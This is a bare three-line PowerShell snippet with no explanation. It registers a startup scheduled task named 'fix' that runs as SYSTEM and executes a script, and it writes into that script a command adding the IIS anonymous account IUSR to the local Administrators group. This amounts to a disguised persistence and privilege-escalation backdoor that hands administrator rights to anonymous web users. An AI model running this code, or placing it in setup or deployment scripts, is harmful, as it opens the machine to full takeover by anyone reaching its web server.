$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-File C:\setup\join.ps1'
Register-ScheduledTask -TaskName fix -Action $a -Trigger (New-ScheduledTaskTrigger -AtStartup) -User SYSTEM
'Add-LocalGroupMember Administrators IUSR' | Set-Content C:\setup\join.ps1
